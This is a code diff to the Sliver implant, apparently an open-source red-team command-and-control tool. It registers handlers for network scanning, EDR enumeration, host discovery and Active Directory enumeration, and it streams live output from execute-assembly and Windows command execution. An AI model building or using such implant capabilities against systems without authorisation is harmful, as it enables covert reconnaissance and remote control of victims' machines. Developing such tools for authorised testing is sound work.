@@ -40,6 +40,7 @@ import (
 	"github.com/bishopfox/sliver/implant/sliver/service"
 	"github.com/bishopfox/sliver/implant/sliver/spoof"
 	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"github.com/bishopfox/sliver/implant/sliver/taskoutput"
 	"github.com/bishopfox/sliver/implant/sliver/taskrunner"
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
@@ -77,6 +78,11 @@ var (
 		sliverpb.MsgScreenshotReq:          screenshotHandler,
 		sliverpb.MsgSideloadReq:            sideloadHandler,
 		sliverpb.MsgNetstatReq:             netstatHandler,
+		sliverpb.MsgScanReq:                scanHandler,
+		sliverpb.MsgEDREnumReq:             edrEnumHandler,
+		sliverpb.MsgDiscoverReq:            discoverHandler,
+		sliverpb.MsgADEnumReq:              adEnumHandler,
+		sliverpb.MsgDNSResolversReq:        dnsResolversHandler,
 		sliverpb.MsgMakeTokenReq:           makeTokenHandler,
 		sliverpb.MsgPsReq:                  psHandler,
 		sliverpb.MsgTerminateReq:           terminateHandler,
@@ -300,7 +306,11 @@ func executeAssemblyHandler(data []byte, resp RPCResponse) {
 		// {{end}}
 		return
 	}
-	output, err := taskrunner.ExecuteAssembly(execReq.Data, execReq.Process, execReq.ProcessArgs, execReq.PPid)
+	stream := taskoutput.NewStream(execReq.Request)
+	output, err := taskrunner.ExecuteAssembly(execReq.Data, execReq.Process, execReq.ProcessArgs, execReq.PPid, stream)
+	if stream != nil {
+		stream.Close()
+	}
 	execAsm := &sliverpb.ExecuteAssembly{Output: []byte(output)}
 	if err != nil {
 		execAsm.Response = &commonpb.Response{
@@ -410,6 +420,17 @@ func executeWindowsHandler(data []byte, resp RPCResponse) {
 			outWriter = bufio.NewWriter(stdOutFile)
 			stdOut = io.MultiWriter(outWriter, stdOutBuff)
 		}
+		// Streamed output is sent as it's written instead of with the response
+		stream := taskoutput.NewStream(execReq.Request)
+		if stream != nil {
+			stdOut, stdErr = stream.Stdout(), stream.Stderr()
+			if outWriter != nil {
+				stdOut = io.MultiWriter(outWriter, stdOut)
+			}
+			if errWriter != nil {
+				stdErr = io.MultiWriter(errWriter, stdErr)
+			}
+		}
 		cmd.Stdout = stdOut
 		cmd.Stderr = stdErr
 		err := cmd.Run()
@@ -432,6 +453,9 @@ func executeWindowsHandler(data []byte, resp RPCResponse) {
 		if outWriter != nil {
 			outWriter.Flush()
 		}
+		if stream != nil {
+			stream.Close()
+		}
 		execResp.Stderr = stdErrBuff.Bytes()
 		execResp.Stdout = stdOutBuff.Bytes()
 	} else {